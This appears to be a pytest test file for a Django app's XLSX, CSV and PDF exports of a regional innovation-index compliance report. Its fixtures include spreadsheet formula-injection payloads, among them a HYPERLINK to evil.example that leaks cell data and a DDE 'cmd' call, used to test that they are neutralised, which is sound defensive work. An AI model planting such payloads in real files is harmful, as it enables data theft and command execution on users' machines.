"""The XLSX, CSV and PDF files: read back with a reader and checked against figures worked by hand and against
the index engine run independently here; the same filter as the board; formula injection; the export log."""

import csv
import hashlib
import io
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from pypdf import PdfReader

from agencies.models import Agency
from registry.models import Evidence, Innovation
from reports.data import STATE_LABELS
from reports.export_csv import _csv_text
from reports.export_lines import is_formula_like
from reports.models import ExportLog
from reports.xlsx import cell_xml
from scoring.collect import cycle_index, gather_inputs
from scoring.index import compute_index
from tests.conftest import client_for, make_answer
from tests.reports.test_compliance import build_world, make_entry

pytestmark = pytest.mark.django_db

# Worked by hand for `world` (METHOD.md sections 2-5, 2024 edition):
# SPD claimed: SPD-01 1 × 3 = 3, SPD-06 1.5 × 2 = 3, SPD-12 without evidence 0 (D1) → 6.
# SPD verified: 3 + 1.5 × 1 (Tidak Sesuai, level 1) + 0 → 4.5.
# Claimed n = 2 (approved + submitted, both penerapan); Σ kematangan = 20 + 2 = 22;
#   SID = 22 / max(10, 2) + 2 × 0.38 = 2.96; total 8.96; IID = 8.96 / 250 × 100 = 3.584 → 3.58, Kurang Inovatif.
# Verified n = 1 (approved); Σ = 9; SID = 0.9 + 0.38 = 1.28; total 5.78; IID 2.312 → 2.31.
HAND = {"claimed_iid": 3.58, "verified_iid": 2.31, "claimed_spd": 6, "verified_spd": 4.5, "claimed_n": 2}


@pytest.fixture
def world(open_cycle, region, other_region, agency_a, agency_b, owner):
    return build_world(open_cycle, region, other_region, agency_a, agency_b, owner)


def export(client, fmt, query=None):
    response = client.get(reverse("compliance_export", args=[fmt]), query or {})
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return response, body


def kecamatan_query(code="KEC-BCK"):
    return {"kecamatan": Agency.objects.get(code=code).pk}


def sheet_rows(workbook, title):
    return list(workbook[title].iter_rows(values_only=True))


def labelled(rows) -> dict:
    return {row[0]: row[1:] for row in rows if row and row[0]}


# --- XLSX -----------------------------------------------------------------------------------------------------


def test_xlsx_summary_matches_the_hand_worked_figures_and_the_engine(world, reviewer):
    response, body = export(client_for(reviewer), "xlsx")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert 'attachment; filename="kepatuhan-iid-kota-parepare-2024-' in response["Content-Disposition"]
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    assert workbook.sheetnames == ["Ringkasan", "SPD", "Inovasi", "Bukti", "Kepatuhan"]
    summary = workbook["Ringkasan"]
    values = labelled(summary.iter_rows(values_only=True))
    assert values["IID"][:2] == (HAND["claimed_iid"], HAND["verified_iid"])
    expected = compute_index(*gather_inputs(world))
    claimed, verified = expected.self_assessed, expected.verified
    rows_by_value = {row[1:3] for row in summary.iter_rows(values_only=True)}
    assert (claimed.predicate, verified.predicate) in rows_by_value
    assert (float(claimed.spd), float(verified.spd)) == (HAND["claimed_spd"], HAND["verified_spd"])
    for figure in ("spd", "sid", "total"):
        pair = (float(getattr(claimed, figure)), float(getattr(verified, figure)))
        assert pair in rows_by_value, figure
    assert (claimed.n, verified.n) == (HAND["claimed_n"], 1)
    assert (claimed.n, verified.n) in rows_by_value
    # Numbers are number cells with a format, not text.
    iid_cell = next(row for row in summary.iter_rows() if row[0].value == "IID")[1]
    assert (iid_cell.data_type, iid_cell.number_format) == ("n", "0.00")
    assert summary.freeze_panes == "A2"


def test_xlsx_spd_sheet_lists_every_spd_row_with_both_scores(world, reviewer):
    _response, body = export(client_for(reviewer), "xlsx")
    rows = sheet_rows(openpyxl.load_workbook(io.BytesIO(body)), "SPD")
    by_code = {row[0]: row for row in rows[1:] if row[0]}
    edition = world.edition.parsed()
    assert list(by_code) == [row.id for row in edition.spd_rows]
    # code, variable, name, weight, chosen level, verified level, claimed score, verified score
    assert by_code["SPD-06"][3:8] == (1.5, 2, 1, 3, 1.5)
    assert by_code["SPD-12"][4:8] == (2, 0, 0, 0)  # chosen but no evidence: D1
    assert by_code["SPD-02a"][4:8] == (None, 0, 0, 0)
    assert rows[-1][6:8] == (HAND["claimed_spd"], HAND["verified_spd"])


def test_xlsx_innovation_sheet_has_the_filtered_entries_and_one_column_per_indicator(world, reviewer):
    _response, body = export(client_for(reviewer), "xlsx")
    rows = sheet_rows(openpyxl.load_workbook(io.BytesIO(body)), "Inovasi")
    header, data = rows[0], rows[1:]
    codes = [row.id for row in world.edition.parsed().sid_rows]
    assert list(header[-len(codes) :]) == codes
    by_name = {row[3]: dict(zip(header, row, strict=True)) for row in data}
    # Every entry of an active agency of the region, drafts and rejected ones too; no agency without one.
    assert set(by_name) == {"Posyandu Digital", "Sekolah Ramah Anak", "Kelurahan Bersih", "Pasar Tertib"}
    posyandu = by_name["Posyandu Digital"]
    assert (posyandu["SID-16"], posyandu["SID-35"], posyandu["SID-33"], posyandu["SID-17"]) == (3, 2, 1, None)
    index = {item.facts.name: item for item in cycle_index(world).innovations}
    for name, row in by_name.items():
        assert row[header[7]] == float(index[name].self_assessed.kematangan)
        assert row[header[8]] == float(index[name].verified.kematangan)
    assert (posyandu[header[7]], posyandu[header[8]]) == (20, 9)  # by hand: 9 + 8 + 3, and 9


def test_xlsx_kecamatan_filter_limits_every_row_sheet(world, reviewer):
    _response, body = export(client_for(reviewer), "xlsx", kecamatan_query())
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    compliance = sheet_rows(workbook, "Kepatuhan")[1:]
    assert [(row[0], row[5]) for row in compliance] == [("KEC-BCK", None), ("KEL-LMO", "Kelurahan Bersih")]
    assert [row[3] for row in sheet_rows(workbook, "Inovasi")[1:]] == ["Kelurahan Bersih"]
    evidence = sheet_rows(workbook, "Bukti")[1:]
    assert {row[1] for row in evidence} == {"Kelurahan Bersih"}
    assert len(evidence) == Evidence.objects.filter(answer__innovation__name="Kelurahan Bersih").count()
    # The filter is told in the summary; the IID stays the whole cycle's.
    summary = labelled(sheet_rows(workbook, "Ringkasan"))
    assert any(value[0] == "Kecamatan Bacukiki" for value in summary.values())
    assert summary["IID"][:2] == (HAND["claimed_iid"], HAND["verified_iid"])


def test_xlsx_evidence_sheet_links_to_the_evidence_view(world, reviewer, settings):
    settings.REGISTRI_BASE_URL = "https://inovasi.pareparekota.go.id/"
    _response, body = export(client_for(reviewer), "xlsx", {"state": "approved"})
    sheet = openpyxl.load_workbook(io.BytesIO(body))["Bukti"]
    rows = list(sheet.iter_rows(min_row=2))
    expected = Evidence.objects.filter(answer__innovation__name="Posyandu Digital")
    assert len(rows) == expected.count() == 4
    item = expected.get(kind="file")
    file_row = next(row for row in rows if row[4].value == "SK Inovasi.pdf")
    link = f"https://inovasi.pareparekota.go.id/evidence/{item.pk}/"
    assert [cell.value for cell in file_row[:9]][2:] == [
        "SID-16",
        str(Evidence.Kind.FILE.label),
        "SK Inovasi.pdf",
        "800/12/2024",
        file_row[6].value,
        "Surat Keputusan Inovasi",
        str(Evidence.Review.PENDING.label),
    ]
    assert file_row[6].value.date().isoformat() == "2024-01-15"
    assert (file_row[9].value, file_row[9].hyperlink.target) == (link, link)
    link_row = next(row for row in rows if row[2].value == "SID-35")
    assert link_row[9].hyperlink.target == "https://example.org/SID-35.pdf"


# --- CSV ------------------------------------------------------------------------------------------------------


def read_csv(body: bytes) -> list[list[str]]:
    assert body.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_csv_streams_the_board_rows_with_one_column_per_indicator(world, reviewer):
    response, body = export(client_for(reviewer), "csv")
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = read_csv(body)
    header, data = rows[0], rows[1:]
    codes = [row.id for row in world.edition.parsed().sid_rows]
    assert header[-len(codes) :] == codes
    assert [row[0] for row in data] == ["PD-DINKES", "PD-DIKBUD", "KEC-BCK", "KEC-UJG", "KEL-LMO", "KEL-LPD"]
    posyandu = dict(zip(header, data[0], strict=True))
    assert (posyandu["SID-16"], posyandu["SID-35"], posyandu["SID-18"]) == ("3", "2", "")
    assert data[0][4:8] == [str(Innovation.Status.APPROVED.label), "Posyandu Digital", "20", "9"]
    assert data[2][4:8] == [str(STATE_LABELS["none"]), "", "", ""]


def test_csv_has_exactly_the_board_rows_for_a_filter(world, reviewer):
    client = client_for(reviewer)
    query = {"state": "none"}
    board = client.get(reverse("compliance_board"), query).context["rows"]
    _response, body = export(client, "csv", query)
    assert (
        [row[0] for row in read_csv(body)[1:]] == [row.agency_code for row in board] == ["KEC-BCK", "KEL-LPD"]
    )


# --- PDF ------------------------------------------------------------------------------------------------------


def pdf_text(body: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(body)).pages)


def test_pdf_report_shows_the_index_and_the_filtered_innovations(world, reviewer):
    response, body = export(client_for(reviewer), "pdf", {"kind": "perangkat_daerah"})
    assert response["Content-Type"] == "application/pdf"
    assert body.startswith(b"%PDF")
    text = pdf_text(body)
    expected = compute_index(*gather_inputs(world))
    for value in (expected.self_assessed.iid, expected.verified.iid, expected.self_assessed.spd):
        assert format(value.quantize(Decimal("0.01")), "f").replace(".", ",") in text
    assert "3,58" in text and "2,31" in text and "Kurang Inovatif" in text
    assert "Kota Parepare 2024" in text
    assert "Posyandu Digital" in text and "Sekolah Ramah Anak" in text
    assert "Kelurahan Bersih" not in text  # filtered out
    assert "—" in text  # the font carries the dash


# --- the same filter, bad filters, formula injection, permissions ----------------------------------------------


@pytest.mark.parametrize("fmt", ["xlsx", "csv", "pdf"])
@pytest.mark.parametrize("query", [{"state": "lost"}, {"kecamatan": "abc"}, {"tahun": "1999"}])
def test_invalid_filter_gives_400_and_no_file(world, reviewer, fmt, query):
    response, body = export(client_for(reviewer), fmt, query)
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    html = body.decode()
    assert 'data-testid="export-refused"' in html
    assert "pilihan yang valid" in html  # the field's own error, in Indonesian
    assert not ExportLog.objects.exists()


@pytest.mark.parametrize("fmt", ["xlsx", "csv", "pdf"])
def test_export_of_a_region_without_cycle_is_refused(region, agency_a, reviewer, fmt):
    response, _body = export(client_for(reviewer), fmt)
    assert response.status_code == 400
    assert not ExportLog.objects.exists()


HOSTILE = {
    "agency": '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "innovation": "+1+cmd|' /C calc'!A0",
    "kecamatan": "@SUM(1+1)*cmd",
    "kelurahan": "-2+3",
}


@pytest.fixture
def hostile(open_cycle, region, owner):
    kecamatan = Agency.objects.create(
        region=region, code="KEC-EVIL", name=HOSTILE["kecamatan"], kind="kecamatan"
    )
    agency = Agency.objects.create(
        region=region, code="KEL-EVIL", name=HOSTILE["agency"], kind="kelurahan", parent=kecamatan
    )
    make_entry(open_cycle, agency, owner, HOSTILE["innovation"], "submitted")
    tab = Agency.objects.create(
        region=region, code="KEL-TAB", name="\tTab", kind="kelurahan", parent=kecamatan
    )
    make_entry(open_cycle, tab, owner, HOSTILE["kelurahan"], "submitted")
    return open_cycle


def test_xlsx_formula_like_text_is_written_as_text(hostile, reviewer):
    _response, body = export(client_for(reviewer), "xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    cells = [
        cell for sheet in ("Kepatuhan", "Inovasi") for row in workbook[sheet].iter_rows() for cell in row
    ]
    found = {cell.value: cell.data_type for cell in cells if cell.value in [*HOSTILE.values(), "\tTab"]}
    assert found == {value: "s" for value in [*HOSTILE.values(), "\tTab"]}
    # A formula cell would be data type "f"; none is written anywhere in the workbook.
    assert not [
        cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ]


def test_csv_formula_like_text_is_prefixed(hostile, reviewer):
    _response, body = export(client_for(reviewer), "csv")
    cells = {cell for row in read_csv(body) for cell in row}
    for value in [*HOSTILE.values(), "\tTab"]:
        assert value not in cells
        assert "'" + value in cells


# Formulas that slipped past a guard looking at the first character only (issue 13).
DISGUISED = {
    "semicolon": ";=1+1",
    "comma": ',=HYPERLINK("http://evil.example")',
    "fullwidth": "\uff1d1+1",
    "fullwidth_at": "\uff20SUM(1+1)",
    "space": " =1+1",
    "semicolon_space": "; +cmd|' /C calc'!A0",
    "newline": "\n=1+1",
}


@pytest.mark.parametrize("value", DISGUISED.values(), ids=DISGUISED.keys())
def test_disguised_formula_is_formula_like(value):
    assert is_formula_like(value)
    assert _csv_text(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Dinas Kesehatan; UPTD", "1,5", "Posyandu = sehat", "Rp 1.000", "\uff21BC", "", "；Catatan"]
)
def test_ordinary_text_is_not_formula_like(value):
    assert not is_formula_like(value)
    assert _csv_text(value) == value


@pytest.fixture
def disguised(open_cycle, region, owner):
    kecamatan = Agency.objects.create(region=region, code="KEC-D", name="Kecamatan Soreang", kind="kecamatan")
    for number, value in enumerate(DISGUISED.values()):
        agency = Agency.objects.create(
            region=region, code=f"KEL-D{number}", name=value, kind="kelurahan", parent=kecamatan
        )
        make_entry(open_cycle, agency, owner, value, "submitted")
    return open_cycle


def test_csv_disguised_formulas_are_prefixed(disguised, reviewer):
    _response, body = export(client_for(reviewer), "csv")
    cells = {cell for row in read_csv(body) for cell in row}
    assert {value for value in DISGUISED.values() if value in cells} == set()
    assert {"'" + value for value in DISGUISED.values()} <= cells


def test_xlsx_disguised_formulas_stay_text(disguised, reviewer):
    _response, body = export(client_for(reviewer), "xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    found = {cell.value: cell.data_type for cell in cells if cell.value in DISGUISED.values()}
    # The workbook keeps the text exactly as typed (no normalisation, no prefix) and as inline strings.
    assert found == {value: "s" for value in DISGUISED.values()}
    assert not [cell for cell in cells if cell.data_type == "f"]


def test_negative_numbers_stay_numbers():
    assert cell_xml("B2", Decimal("-1.5")) == '<c r="B2" s="1"><v>-1.5</v></c>'
    assert cell_xml("C2", -2) == '<c r="C2" s="0"><v>-2</v></c>'
    assert cell_xml("D2", "-2") == '<c r="D2" s="0" t="inlineStr"><is><t>-2</t></is></c>'
    assert _csv_text(Decimal("-1.50")) == "-1.50"
    assert _csv_text("-1.50") == "'-1.50"


@pytest.mark.parametrize("fmt", ["xlsx", "csv", "pdf"])
def test_export_permissions(world, client, owner, outsider, fmt):
    url = reverse("compliance_export", args=[fmt])
    response = client.get(url)
    assert response.status_code == 302 and response.url.startswith(reverse("login"))
    assert client_for(owner).get(url).status_code == 403
    assert client_for(outsider).get(url).status_code == 403
    assert not ExportLog.objects.exists()


@pytest.mark.parametrize("fmt", ["xlsx", "csv", "pdf"])
def test_another_region_never_appears(world, reviewer, fmt):
    _response, body = export(client_for(reviewer), fmt)
    if fmt == "xlsx":
        workbook = openpyxl.load_workbook(io.BytesIO(body))
        text = " ".join(
            str(cell) for sheet in workbook for row in sheet.iter_rows(values_only=True) for cell in row
        )
    elif fmt == "csv":
        text = body.decode("utf-8-sig")
    else:
        text = pdf_text(body)
    assert "Posyandu Digital" in text
    assert "Rahasia" not in text


# --- the export log -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["xlsx", "csv", "pdf"])
def test_each_export_is_logged_with_the_checksum_of_the_bytes_received(world, reviewer, fmt):
    response, body = export(client_for(reviewer), fmt, kecamatan_query())
    log = ExportLog.objects.get()
    assert log.checksum == hashlib.sha256(body).hexdigest()
    assert (log.size, log.format, log.created_by, log.cycle, log.edition) == (
        len(body),
        fmt,
        reviewer,
        world,
        world.edition,
    )
    assert log.filename in response["Content-Disposition"]
    assert log.row_count == 2
    assert log.filters == {"tahun": "2024", "kecamatan": Agency.objects.get(code="KEC-BCK").pk}
    assert (log.claimed_iid, log.verified_iid) == (Decimal("3.58"), Decimal("2.31"))


def test_the_csv_is_logged_only_once_its_last_chunk_is_sent(world, reviewer, monkeypatch):
    from reports import export_csv

    monkeypatch.setattr(export_csv, "CSV_ROWS_PER_CHUNK", 2)
    response = client_for(reviewer).get(reverse("compliance_export", args=["csv"]))
    chunks = iter(response.streaming_content)
    sent = [next(chunks), next(chunks)]
    # A download abandoned here leaves no log row for a file nobody received.
    assert not ExportLog.objects.exists()
    sent += list(chunks)
    assert len(sent) == 3  # 6 rows, 2 a chunk; the BOM and the header go with the first
    assert ExportLog.objects.get().checksum == hashlib.sha256(b"".join(sent)).hexdigest()


# --- the command ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["xlsx", "csv", "pdf"])
def test_export_index_command_writes_the_same_file_and_logs_it(world, tmp_path, fmt):
    path = tmp_path / f"iid.{fmt}"
    out = io.StringIO()
    call_command(
        "export_index",
        *(
            "--year",
            "2024",
            "--format",
            fmt,
            "--output",
            str(path),
            "--region",
            "73.72",
            "--kecamatan",
            "KEC-BCK",
        ),
        stdout=out,
    )
    body = path.read_bytes()
    log = ExportLog.objects.get()
    assert (log.created_by, log.checksum, log.size, log.row_count) == (
        None,
        hashlib.sha256(body).hexdigest(),
        len(body),
        2,
    )
    assert log.checksum in out.getvalue()
    if fmt == "csv":
        assert [row[0] for row in read_csv(body)[1:]] == ["KEC-BCK", "KEL-LMO"]
    if fmt == "xlsx":
        rows = sheet_rows(openpyxl.load_workbook(io.BytesIO(body)), "Kepatuhan")
        assert [row[0] for row in rows[1:]] == ["KEC-BCK", "KEL-LMO"]


def test_export_index_command_filters_by_state_kind_and_region(world, tmp_path, region):
    path = tmp_path / "iid.csv"
    call_command(
        "export_index",
        "--year=2024",
        "--format=csv",
        f"--output={path}",
        f"--region={region.code}",
        "--kind=kelurahan",
        "--state=none",
    )
    assert [row[0] for row in read_csv(path.read_bytes())[1:]] == ["KEL-LPD"]


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["--kind=desa"], "--kind"),
        (["--state=hilang"], "--state"),
        (["--kecamatan=Tidak Ada"], "Tidak Ada"),
        (["--region=99.99"], "99.99"),
        (["--year=1999"], "1999"),
    ],
)
def test_export_index_command_refuses_bad_values(world, tmp_path, arguments, message):
    path = tmp_path / "iid.xlsx"
    base = {
        "--year": "--year=2024",
        "--format": "--format=xlsx",
        "--output": f"--output={path}",
        "--region": "--region=73.72",
    }
    for argument in arguments:
        base[argument.split("=")[0]] = argument
    with pytest.raises(CommandError, match=message):
        call_command("export_index", *base.values())
    assert not path.exists()
    assert not ExportLog.objects.exists()


def test_export_index_command_needs_a_region_when_several_have_the_year(world, tmp_path):
    # `world` gives the other region a 2024 cycle too.
    with pytest.raises(CommandError, match="--region"):
        call_command("export_index", "--year=2024", "--format=csv", f"--output={tmp_path / 'x.csv'}")


def test_innovation_status_labels_cover_every_state():
    from reports.filters import STATE_CHOICES

    assert [value for value, _label in STATE_CHOICES] == ["none", *Innovation.Status.values]


# --- the streamed CSV: flat memory, same rows, same IID --------------------------------------------------------


@pytest.fixture
def stages(world, region, owner):
    """`world` with innovations in more statuses and stages: in review, sent back, resubmitted, approved but only
    at uji coba, approved at inisiatif, each with answers."""
    for number, (status, stage, level) in enumerate(
        [
            ("in_review", "penerapan", 2),
            ("revision_requested", "penerapan", 3),
            ("resubmitted", "penerapan", 1),
            ("approved", "uji_coba", 3),
            ("approved", "inisiatif", 2),
        ]
    ):
        agency = Agency.objects.create(
            region=region, code=f"PD-X{number}", name=f"Dinas X{number}", kind="perangkat_daerah"
        )
        entry = make_entry(world, agency, owner, f"Inovasi X{number}", status, stage=stage)
        make_answer(entry, "SID-16", level, by=owner, verdict="sesuai")
        make_answer(entry, "SID-35", 1, by=owner, verdict="tidak_sesuai", verified_level=0)
    return world


@pytest.mark.parametrize("chunk", [1, 2, 500])
def test_csv_log_records_the_cycle_iid_of_compute_index(stages, reviewer, monkeypatch, chunk):
    from reports import data
    from scoring import collect

    monkeypatch.setattr(data, "CSV_AGENCIES_PER_CHUNK", chunk)
    monkeypatch.setattr(collect, "STREAM_CHUNK_SIZE", chunk)
    _response, body = export(client_for(reviewer), "csv", {"kind": "kecamatan"})
    log = ExportLog.objects.get()
    expected = compute_index(*gather_inputs(stages))
    # The whole cycle's IID, whatever the filter; the log's row count is that of the filtered rows.
    assert (log.claimed_iid, log.verified_iid) == (expected.self_assessed.iid, expected.verified.iid)
    assert (expected.self_assessed.n, expected.verified.n) == (5, 1)  # D3 over the statuses above
    assert log.row_count == len(read_csv(body)) - 1 == 2


@pytest.mark.parametrize("chunk", [1, 4])
def test_csv_streamed_in_chunks_has_the_rows_of_the_whole_board(stages, reviewer, monkeypatch, chunk):
    """The rows written a chunk at a time are those of the board's file built whole from `gather_export`."""
    from reports import data, exports
    from reports.filters import ComplianceFilter

    monkeypatch.setattr(data, "CSV_AGENCIES_PER_CHUNK", chunk)
    _response, body = export(client_for(reviewer), "csv")
    whole = exports.build_file(data.gather_export(ComplianceFilter({}, region=stages.region)), "csv")
    assert body == whole
    rows = read_csv(body)[1:]
    assert len(rows) == Agency.objects.filter(region=stages.region, is_active=True).count() == 11
    by_name = {row[5]: row for row in rows if row[5]}
    index = {item.facts.name: item for item in cycle_index(stages).innovations}
    for name, row in by_name.items():
        assert row[6:8] == [str(index[name].self_assessed.kematangan), str(index[name].verified.kematangan)]


def test_csv_download_reads_a_fixed_number_of_queries_per_chunk(stages, reviewer, monkeypatch):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from reports import data

    def queries(chunk):
        monkeypatch.setattr(data, "CSV_AGENCIES_PER_CHUNK", chunk)
        client = client_for(reviewer)
        with CaptureQueriesContext(connection) as captured:
            export(client, "csv")
        return len(captured)

    # 11 agencies: chunks of 4 → 3 chunks, of 11 → 1. Each chunk costs one answers query, never one per row.
    assert queries(4) - queries(11) == 2


def test_xlsx_row_writer_writes_each_cell_as_cell_xml():
    """`XlsxSheet.append` writes common cells itself; they must be exactly what `cell_xml` writes."""
    import datetime
    import zipfile

    from reports.xlsx import XlsxSheet

    values = [
        "Dinas Kesehatan",
        "A & B <c>",
        " leading space",
        "trailing space ",
        "\tTab",
        "line\nbreak",
        "ctrl\x01char",
        "em\u2003space",
        "=1+1",
        "",
        None,
        0,
        -3,
        True,
        Decimal("2.50"),
        1.5,
        datetime.date(2024, 1, 15),
        "Jalan Kemerdekaan—Parepare",
    ]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        sheet = XlsxSheet(archive, 1, ["h"], [10])
        sheet.append(values)
        sheet.append(values[:3], style=3)
        sheet.close()
    with zipfile.ZipFile(buffer) as archive:
        written = archive.read("xl/worksheets/sheet1.xml").decode()
    columns = "ABCDEFGHIJKLMNOPQR"
    expected = "".join(cell_xml(f"{column}2", value) for column, value in zip(columns, values, strict=True))
    assert f'<row r="2">{expected}</row>' in written
    bold = "".join(
        cell_xml(f"{column}3", value, 3) for column, value in zip(columns, values[:3], strict=False)
    )
    assert f'<row r="3">{bold}</row>' in written
